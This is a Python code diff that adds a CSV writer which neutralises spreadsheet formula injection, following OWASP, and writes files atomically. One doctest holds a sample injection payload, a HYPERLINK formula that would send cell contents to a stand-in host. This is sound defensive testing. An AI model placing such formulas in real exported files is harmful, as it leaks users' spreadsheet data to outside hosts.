@@ -6,6 +6,8 @@ so that two builds from the same raw data are byte-identical.
 from __future__ import annotations
 
 import json
+import os
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -93,7 +95,53 @@ def write_table(df: pd.DataFrame, out_dir: Path, name: str, sort_by: list[str] |
     pq.write_table(table, path, compression="zstd", write_statistics=False)
     # No date_format: pandas writes a date-only column as 2021-06-03 and keeps the time
     # where there is one (received_at), which a fixed "%Y-%m-%d" cut off.
-    df.to_csv(out_dir / f"{name}.csv", index=False, encoding="utf-8-sig", lineterminator="\n")
+    write_csv(df, out_dir / f"{name}.csv")
+    return path
+
+
+# --------------------------------------------------------------------------- CSV
+
+#: A field starting with one of these is taken as a formula by Excel, LibreOffice and WPS
+#: (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab or a carriage return.
+CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: A number as text (-12, +3.5, -1e3, -40%) is data, not a formula: it stays as it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
+
+
+def inert_csv_field(value: object) -> object:
+    """A CSV field that no spreadsheet will run: text starting like a formula gets a leading `'`.
+
+    OWASP's advice for CSV injection: prefix such a field with a single quote (and quote the
+    field, which the csv writer does whenever it holds a separator, quote or line break).
+    Numbers, and text that is only a number such as "-3", are left alone.
+
+    >>> inert_csv_field('=HYPERLINK("http://x/?d="&A1,"点击")')
+    '\'=HYPERLINK("http://x/?d="&A1,"点击")'
+    >>> inert_csv_field("-3"), inert_csv_field(-3), inert_csv_field("安阳市")
+    ('-3', -3, '安阳市')
+    """
+    if isinstance(value, str) and value.startswith(CSV_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def write_csv(df: pd.DataFrame, path: Path, **kwargs) -> Path:
+    """The one CSV writer of the suite: UTF-8 with BOM (Excel), `\\n` line ends, every text field
+    inert (`inert_csv_field`), written to a temporary file and renamed, so a reader never sees
+    half a file. kwargs go to `DataFrame.to_csv` (e.g. date_format). Returns path.
+    """
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    safe = df.copy(deep=False)
+    for col in safe.columns:
+        s = safe[col]
+        if not (pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s)
+                or pd.api.types.is_datetime64_any_dtype(s)):
+            safe[col] = s.map(inert_csv_field, na_action="ignore")
+    safe.columns = [inert_csv_field(str(c)) for c in safe.columns]
+    tmp = path.with_name(f".{path.name}.tmp")
+    safe.to_csv(tmp, index=False, encoding="utf-8-sig", lineterminator="\n", **kwargs)
+    os.replace(tmp, path)
     return path
 
 
